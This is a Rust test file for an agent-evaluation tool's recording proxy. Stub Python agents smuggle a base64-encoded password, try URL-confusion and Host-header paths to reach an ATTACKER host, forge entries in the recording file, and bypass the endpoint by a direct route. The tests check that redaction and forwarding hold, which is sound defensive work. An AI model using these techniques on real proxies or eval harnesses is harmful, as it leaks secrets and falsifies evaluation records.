//! Attacks on what a cassette promises: no secret in any form reaches the file, the model
//! endpoint talks only to its upstream, a save keeps only the run's own entries, prune
//! removes only what every suite using the file did not ask, and a replay says what it saw.

use std::path::Path;

use base64::Engine as _;
use serde_json::{Value, json};

use crate::cassettes::{KEY, evalgate_with, openai, results};
use crate::common::server::{Reply, Server};
use crate::common::{Test, unindent};

/// A password a Go JSON encoder writes escaped: `\u003c`, `\u003e`, `\u0026`.
const PASSWORD: &str = "hunter<2>&pass-77";

/// A CLI that asks the model what its prompt says, by the route its prompt names, and
/// prints only `ok`: what reaches the cassette is the traffic, not the output.
const ASKING_AGENT: &str = r#"#!/usr/bin/env python3
import base64, json, os, sys, urllib.request
prompt = sys.argv[1]
content = prompt
if prompt == "request-base64":
    content = "remember " + base64.b64encode(os.environ["DB_PASSWORD"].encode()).decode()
if prompt.startswith("anthropic"):
    url, headers = os.environ["ANTHROPIC_BASE_URL"] + "/v1/messages", {"x-api-key": os.environ["ANTHROPIC_API_KEY"], "anthropic-version": "2023-06-01"}
else:
    url, headers = os.environ["OPENAI_BASE_URL"] + "/chat/completions", {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"]}
body = {"model": "m", "stream": "stream" in prompt, "messages": [{"role": "user", "content": content}]}
request = urllib.request.Request(url, data=json.dumps(body).encode(), headers={"content-type": "application/json", **headers})
urllib.request.urlopen(request).read()
print("ok")
"#;

fn sse(events: &[Value]) -> String {
    events.iter().map(|e| format!("data: {e}\n\n")).collect()
}

/// The stand-in model: each prompt leaks a secret in another encoding.
fn leaking_model() -> Server {
    Server::start_with(|r| {
        let body: Value = serde_json::from_str(&r.body).unwrap_or_default();
        let prompt = body["messages"][0]["content"].as_str().unwrap_or_default().to_owned();
        let (pieces, stream) = (["the key is sk-cass", "ette-secret-", "4f1e9a"], "text/event-stream");
        let (content_type, text) = match prompt.as_str() {
            "openai-stream" => (
                stream,
                sse(&pieces.map(|p| json!({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": p}}]})))
                    + "data: [DONE]\n\n",
            ),
            "anthropic-stream" => (
                stream,
                pieces
                    .map(|p| {
                        let data = json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": p}});
                        format!("event: content_block_delta\ndata: {data}\n\n")
                    })
                    .concat(),
            ),
            // As Go's encoder writes it: `<`, `>` and `&` escaped.
            "go-json" => {
                let escaped = PASSWORD.replace('<', "\\u003c").replace('>', "\\u003e").replace('&', "\\u0026");
                ("application/json", format!(r#"{{"model":"m","message":{{"role":"assistant","content":"pw: {escaped}"}}}}"#))
            }
            "base64" => ("application/json", openai(&base64::engine::general_purpose::STANDARD.encode(format!("k={KEY}")))),
            "percent" => ("application/json", openai(&format!("k=%73{}", &KEY[1..]))),
            _ => ("application/json", openai("fine")),
        };
        let mut reply = Reply::json(200, text);
        reply.headers.push(("content-type".into(), content_type.into()));
        reply
    })
}

/// Each string of `value`, and of each JSON document a string holds, parsed.
fn decoded_strings(value: &Value, out: &mut Vec<String>) {
    match value {
        Value::String(s) => {
            out.push(s.clone());
            if let Ok(inner) = serde_json::from_str::<Value>(s) {
                decoded_strings(&inner, out);
            }
        }
        Value::Array(items) => items.iter().for_each(|v| decoded_strings(v, out)),
        Value::Object(map) => map.values().for_each(|v| decoded_strings(v, out)),
        _ => {}
    }
}

#[test]
fn no_secret_reaches_a_cassette_split_across_stream_events_escaped_or_encoded() {
    let server = leaking_model();
    let tasks = ["openai-stream", "anthropic-stream", "go-json", "base64", "percent", "request-base64", "clean"];
    let mut suite = String::from(
        "evalgate: 1\nsuite: leaks\nagents:\n  cli: {command: ['./agent.py', '{prompt}'], env: {DB_PASSWORD: '{env.DB_PASSWORD}'}}\ntasks:\n",
    );
    for task in tasks {
        suite.push_str(&format!("  - {{id: {task}, prompt: {task}, grade: [{{type: contains, value: ok}}]}}\n"));
    }
    let test = Test::new().write("evalgate.yaml", &suite).write("agent.py", ASKING_AGENT);
    let dir = test.path();
    let live = [
        ("OPENAI_BASE_URL", server.url()),
        ("ANTHROPIC_BASE_URL", server.url()),
        ("OPENAI_API_KEY", KEY.to_owned()),
        ("ANTHROPIC_API_KEY", KEY.to_owned()),
        ("DB_PASSWORD", PASSWORD.to_owned()),
    ];
    let live: Vec<(&str, &str)> = live.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let recorded = evalgate_with(dir, &["run", "--record", "-j", "1"], &live);
    let stderr = String::from_utf8_lossy(&recorded.stderr);
    assert_eq!(recorded.status.code(), Some(0), "{stderr}");
    let cassette = std::fs::read_to_string(dir.join("cassettes/leaks.jsonl")).unwrap();
    // Not a piece of either secret as written, nor once each JSON string is parsed.
    let mut strings = Vec::new();
    for line in cassette.lines() {
        decoded_strings(&serde_json::from_str(line).unwrap(), &mut strings);
    }
    let decoded = strings.join("\n");
    for secret in [KEY, PASSWORD, "hunter\\u003c2"] {
        for piece in secret.as_bytes().windows(8).map(|w| std::str::from_utf8(w).unwrap()) {
            assert!(!cassette.contains(piece) && !decoded.contains(piece), "{piece:?} in {cassette}");
        }
    }
    // What could be redacted in place was: the escaped password, found as parsed.
    assert!(decoded.contains("pw: [secret:DB_PASSWORD]"), "{cassette}");
    // What could not (a key whole only once the events are joined, base64 and percent forms
    // of it, a request carrying the password in base64) was refused, each said so.
    let mut kept: Vec<String> = strings.iter().filter(|s| tasks.contains(&s.as_str())).cloned().collect();
    kept.sort();
    assert_eq!(kept, ["clean", "go-json"], "{cassette}");
    assert_eq!(results(dir)["cassette"]["refused"], 5, "{}", results(dir)["cassette"]);
    assert_eq!(stderr.matches("is not recorded: it or its answer holds [secret:").count(), 5, "{stderr}");
    let summary = std::fs::read_to_string(dir.join("evalgate-out/summary.md")).unwrap();
    assert!(summary.contains("5 answer(s) not recorded: they held a secret"), "{summary}");
}

/// Attack paths an agent can write below its endpoint's prefix, each aiming at `ATTACKER`.
const FORWARDING_AGENT: &str = r#"#!/usr/bin/env python3
import http.client, os, urllib.parse
base = urllib.parse.urlsplit(os.environ["EVALGATE_MODEL_ENDPOINT"])
att, prefix = os.environ["ATTACKER"], base.path
attempts = [(path, {}) for path in [
    prefix + "/anthropic@" + att + "/v1/messages",
    prefix + "/openai/v1@" + att + "/chat/completions",
    prefix + "/anthropic//" + att + "/v1/messages",
    prefix + "/anthropic/%2F%2F" + att + "/v1/messages",
    prefix + "/anthropic/\\\\" + att + "/v1/messages",
    prefix + "/anthropic/../../" + att + "/v1/messages",
    prefix + "/anthropic/%2e%2e/%2e%2e/" + att + "/v1/messages",
    prefix + "/anthropic/v1/redirect",
    "http://" + att + prefix + "/anthropic/v1/messages",
]] + [(prefix + "/anthropic/v1/messages", {"Host": att})]
statuses = []
for path, headers in attempts:
    connection = http.client.HTTPConnection(base.hostname, base.port, timeout=10)
    try:
        connection.request("POST", path, body=b"{}", headers={"content-type": "application/json", **headers})
        statuses.append(str(connection.getresponse().status))
    except Exception as e:
        statuses.append(type(e).__name__)
print(" ".join(statuses))
"#;

#[test]
fn the_model_endpoint_forwards_to_its_upstream_only_whatever_path_the_agent_writes() {
    let attacker = Server::start(|_| (200, "{}".into()));
    // The upstream itself sends one request on to the attacker: not followed.
    let to_attacker = format!("http://127.0.0.1:{}/v1/messages", attacker.port);
    let upstream = Server::start_with(move |r| match r.path.ends_with("/redirect") {
        true => Reply { status: 307, headers: vec![("location".into(), to_attacker.clone())], body: Vec::new() },
        false => Reply::json(200, openai("fine")),
    });
    let suite = format!(
        "
        evalgate: 1
        suite: fwd
        agents:
          cli: {{command: ['./agent.py'], env: {{ATTACKER: '127.0.0.1:{}'}}}}
        tasks:
          - {{id: attack, prompt: x, grade: [{{type: regex, pattern: '[0-9]'}}]}}
        ",
        attacker.port
    );
    let test = Test::new().write("evalgate.yaml", &unindent(&suite)).write("agent.py", FORWARDING_AGENT);
    let dir = test.path();
    // Upstreams with no path of their own: where `{base}{path}` let `@host` name the host.
    let live =
        [("OPENAI_BASE_URL", upstream.url()), ("ANTHROPIC_BASE_URL", upstream.url()), ("OPENAI_API_KEY", KEY.into())];
    let live: Vec<(&str, &str)> = live.iter().map(|(k, v)| (*k, v.as_str())).collect();
    for mode in ["--record", "--record-missing"] {
        let run = evalgate_with(dir, &["run", mode], &live);
        assert_eq!(run.status.code(), Some(0), "{}", String::from_utf8_lossy(&run.stderr));
        let output = results(dir)["tasks"][0]["trials"][0]["output"].clone();
        assert_eq!(attacker.requests(), 0, "{mode}: the agent's chosen host was sent a request: {output}");
    }
    // Whatever reached the upstream stayed below its paths.
    for request in upstream.received() {
        assert!(!request.path.contains('@') && !request.path.contains(".."), "{}", request.path);
    }
}

/// A CLI that asks the model, then, while the recording run is still going, writes an
/// entry of its own into the cassette (`$PLANT` holds a valid entry's line).
const PLANTING_AGENT: &str = r#"#!/usr/bin/env python3
import json, os, sys, urllib.request
request = urllib.request.Request(
    os.environ["OPENAI_BASE_URL"] + "/chat/completions",
    data=json.dumps({"model": "m", "messages": [{"role": "user", "content": sys.argv[1]}]}).encode(),
    headers={"Content-Type": "application/json"},
)
print(json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"])
plant = os.environ.get("PLANT_FROM", "")
if plant and os.path.exists(plant):
    os.makedirs(os.path.dirname(os.environ["CASSETTE"]), exist_ok=True)
    with open(os.environ["CASSETTE"], "a") as f:
        f.write(open(plant).read())
"#;

#[test]
fn a_save_keeps_the_file_as_the_run_opened_it_and_what_the_run_recorded_never_a_planted_entry() {
    let server = Server::start(|_| (200, openai("Paris")));
    let suite = |dir: &Path| {
        let (plant, cassette) = (dir.join("plant.line"), dir.join("cassettes/p.jsonl"));
        unindent(&format!(
            "
            evalgate: 1
            suite: p
            agents:
              cli: {{command: ['./agent.py', '{{prompt}}'], env: {{PLANT_FROM: '{}', CASSETTE: '{}'}}}}
            tasks:
              - {{id: capital, prompt: Capital of France?, grade: [{{type: contains, value: Paris}}]}}
              - {{id: other, prompt: Other question, grade: [{{type: contains, value: Paris}}]}}
            ",
            plant.display(),
            cassette.display()
        ))
    };
    let live = [("OPENAI_BASE_URL", server.url()), ("OPENAI_API_KEY", KEY.to_owned())];
    let live: Vec<(&str, &str)> = live.iter().map(|(k, v)| (*k, v.as_str())).collect();
    // A valid entry, recorded elsewhere, for a request this suite never makes.
    let elsewhere = Test::new().write("agent.py", PLANTING_AGENT);
    let yaml = suite(elsewhere.path()).replace("Capital of France?", "Planted question");
    std::fs::write(elsewhere.path().join("evalgate.yaml"), yaml).unwrap();
    assert_eq!(
        evalgate_with(elsewhere.path(), &["run", "--record", "--filter", "capital"], &live).status.code(),
        Some(0)
    );
    let planted = std::fs::read_to_string(elsewhere.path().join("cassettes/p.jsonl")).unwrap();
    assert!(planted.contains("Planted question"), "{planted}");

    let test = Test::new().write("agent.py", PLANTING_AGENT);
    let dir = test.path();
    std::fs::write(dir.join("evalgate.yaml"), suite(dir)).unwrap();
    assert_eq!(evalgate_with(dir, &["run", "--record"], &live).status.code(), Some(0));
    let before = std::fs::read_to_string(dir.join("cassettes/p.jsonl")).unwrap();
    assert_eq!(before.lines().count(), 2, "{before}");
    // Re-recorded in part, with the agent planting its entry on the way.
    std::fs::write(dir.join("plant.line"), &planted).unwrap();
    let run = evalgate_with(dir, &["run", "--record", "--filter", "capital"], &live);
    assert_eq!(run.status.code(), Some(0), "{}", String::from_utf8_lossy(&run.stderr));
    let after = std::fs::read_to_string(dir.join("cassettes/p.jsonl")).unwrap();
    assert!(!after.contains("Planted question"), "the planted entry was kept: {after}");
    assert_eq!(after, before, "the entries the file held and the run's own, as they were");
}

const SHARED: &str = "
    evalgate: 1
    suite: <id>
    cassettes: {path: shared.jsonl}
    agents:
      bot: {provider: openai, model: gpt-4o-mini, base_url: '<url>/v1', api_key_env: EVALGATE_TEST_KEY}
    thresholds: {pass_score: 0}
    tasks:
      - {id: one, prompt: <id> first question, grade: [{type: contains, value: Paris}]}
      - {id: two, prompt: <id> second question, grade: [{type: contains, value: Paris}]}
    ";

fn shared_suite(id: &str, url: &str) -> String {
    unindent(SHARED).replace("<id>", id).replace("<url>", url)
}

fn prune(dir: &Path, results: &[&str]) -> (Option<i32>, String) {
    let mut args = vec!["cassettes", "prune", "--dry-run"];
    for r in results {
        args.extend(["--results", r]);
    }
    let out = evalgate_with(dir, &args, &[]);
    (out.status.code(), format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr)))
}

#[test]
fn prune_removes_only_what_whole_runs_of_every_suite_using_the_file_did_not_ask() {
    let server = Server::start(|_| (200, openai("Paris")));
    let test = Test::new()
        .write("a.yaml", &shared_suite("a", &server.url()))
        .write("b.yaml", &shared_suite("b", &server.url()));
    let dir = test.path();
    let key = [("EVALGATE_TEST_KEY", KEY)];
    // Both suites record into the one file in one run: each keeps the other's entries.
    let recorded = evalgate_with(dir, &["run", "--record", "a.yaml", "b.yaml", "--out", "rec"], &key);
    assert_eq!(recorded.status.code(), Some(0), "{}", String::from_utf8_lossy(&recorded.stderr));
    assert_eq!(std::fs::read_to_string(dir.join("shared.jsonl")).unwrap().lines().count(), 4);
    // A's question changes: its old entry is stale, B's entries are not.
    let yaml = shared_suite("a", &server.url()).replace("a second question", "a new question");
    std::fs::write(dir.join("a.yaml"), yaml).unwrap();
    assert_eq!(evalgate_with(dir, &["run", "--record-missing", "a.yaml", "--out", "a"], &key).status.code(), Some(0));
    assert_eq!(evalgate_with(dir, &["run", "--replay", "a.yaml", "--out", "a"], &[]).status.code(), Some(0));
    let (code, out) = prune(dir, &["a/results.json"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("would remove 1 of 5 entries"), "{out}");
    assert!(out.contains("kept 2 entr(ies) suite `b` also asked"), "{out}");
    // With B's whole run too, nothing more goes: B asks its own.
    assert_eq!(evalgate_with(dir, &["run", "--replay", "b.yaml", "--out", "b"], &[]).status.code(), Some(0));
    let (code, out) = prune(dir, &["a/results.json", "b/results.json"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("would remove 1 of 5 entries") && !out.contains("kept"), "{out}");

    // Runs that did not run every task are no evidence: a budget stop, a failed
    // `preflight: true` hook, a merge missing a shard.
    let base = shared_suite("a", &server.url()).replace("a second question", "a new question");
    let stopped = [
        ("budget", base.replace("thresholds: {pass_score: 0}", "thresholds: {pass_score: 0, max_cost_usd: 0.0000001}")),
        ("preflight", format!("{base}hooks:\n  before_all: [{{run: 'exit 1', preflight: true}}]\n")),
    ];
    for (name, yaml) in stopped {
        std::fs::write(dir.join("a.yaml"), yaml).unwrap();
        evalgate_with(dir, &["run", "--replay", "-j", "1", "a.yaml", "--out", name], &[]);
        let (code, out) = prune(dir, &[&format!("{name}/results.json")]);
        assert_eq!(code, Some(2), "{name}: {out}");
        assert!(out.contains("is not a whole run of the suite"), "{name}: {out}");
    }
    std::fs::write(dir.join("a.yaml"), &base).unwrap();
    evalgate_with(dir, &["run", "--replay", "a.yaml", "--shard", "1/2", "--out", "s1"], &[]);
    let merged = evalgate_with(dir, &["merge", "s1/results.json", "-o", "merged.json"], &[]);
    assert!(dir.join("merged.json").exists(), "{}", String::from_utf8_lossy(&merged.stderr));
    let (code, out) = prune(dir, &["merged.json"]);
    assert_eq!(code, Some(2), "{out}");
    assert!(out.contains("is not a whole run of the suite"), "{out}");
}

/// A CLI that asks once through its endpoint and once straight at the model it knows of.
const TWO_ROUTE_AGENT: &str = r#"#!/usr/bin/env python3
import json, os, urllib.request
def ask(base):
    request = urllib.request.Request(base + "/chat/completions",
        data=json.dumps({"model": "m", "messages": [{"role": "user", "content": "hi"}]}).encode(),
        headers={"Content-Type": "application/json"})
    return json.load(urllib.request.urlopen(request))["choices"][0]["message"]["content"]
print(ask(os.environ["OPENAI_BASE_URL"]), ask(os.environ["DIRECT"]))
"#;

#[test]
fn a_replay_says_only_the_requests_through_the_endpoint_were_replayed() {
    let server = Server::start(|_| (200, openai("Paris")));
    let suite = format!(
        "
        evalgate: 1
        suite: two
        agents:
          cli: {{command: ['./agent.py'], env: {{DIRECT: '{}/v1'}}}}
        tasks:
          - {{id: capital, prompt: x, grade: [{{type: contains, value: Paris}}]}}
        ",
        server.url()
    );
    let test = Test::new().write("evalgate.yaml", &unindent(&suite)).write("agent.py", TWO_ROUTE_AGENT);
    let dir = test.path();
    let upstream = format!("{}/v1", server.url());
    let live = [("OPENAI_BASE_URL", upstream.as_str()), ("OPENAI_API_KEY", KEY)];
    assert_eq!(evalgate_with(dir, &["run", "--record"], &live).status.code(), Some(0));
    assert_eq!(server.requests(), 2);
    assert_eq!(evalgate_with(dir, &["run", "--replay"], &[]).status.code(), Some(0));
    assert_eq!(server.requests(), 3, "the direct request went live, unseen by the endpoint");
    assert_eq!(results(dir)["cassette"]["through_endpoint"], 1, "{}", results(dir)["cassette"]);
    let summary = std::fs::read_to_string(dir.join("evalgate-out/summary.md")).unwrap();
    assert!(
        summary.contains(
            "1 of them answered a command agent's requests through its model endpoint: only those were seen; \
             requests the agent sent by another route were neither replayed nor counted"
        ),
        "{summary}"
    );
}
